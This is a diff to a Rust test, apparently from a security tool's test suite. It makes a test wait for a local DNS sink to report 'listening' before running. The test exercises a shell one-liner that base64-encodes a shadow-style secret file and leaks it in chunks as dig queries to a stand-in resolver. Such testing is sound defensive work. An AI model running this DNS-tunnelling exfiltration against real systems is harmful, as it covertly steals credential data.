@@ -7,6 +7,7 @@ use counterfoil_tests::plant::Service;
 use counterfoil_tests::sink::Sink;
 use counterfoil_tests::sshd::Sshd;
 use counterfoil_tests::{Run, Scratch, check, need, need_sshd, peers};
+use std::io::{BufRead, BufReader};
 use std::net::UdpSocket;
 use std::process::{Command, Stdio};
 
@@ -74,8 +75,12 @@ fn in_names_that_a_resolver_is_asked_for() {
         .args([peers::script("dns_sink.py"), port.to_string()])
         .env_remove("LD_PRELOAD")
         .stdin(Stdio::null())
+        .stdout(Stdio::piped())
         .spawn();
-    let _server = Service(server.expect("dns_sink"));
+    let mut server = Service(server.expect("dns_sink"));
+    let mut said = String::new();
+    BufReader::new(server.0.stdout.take().expect("piped")).read_line(&mut said).expect("dns_sink");
+    assert_eq!(said, "listening\n");
     let run = leaking(&format!(
         "for piece in $(base64 -w0 secret/shadow | fold -w 50); do dig +time=5 +tries=1 @127.0.0.1 -p {port} $piece.example.test >>answers; done; grep -c NXDOMAIN answers"
     ));
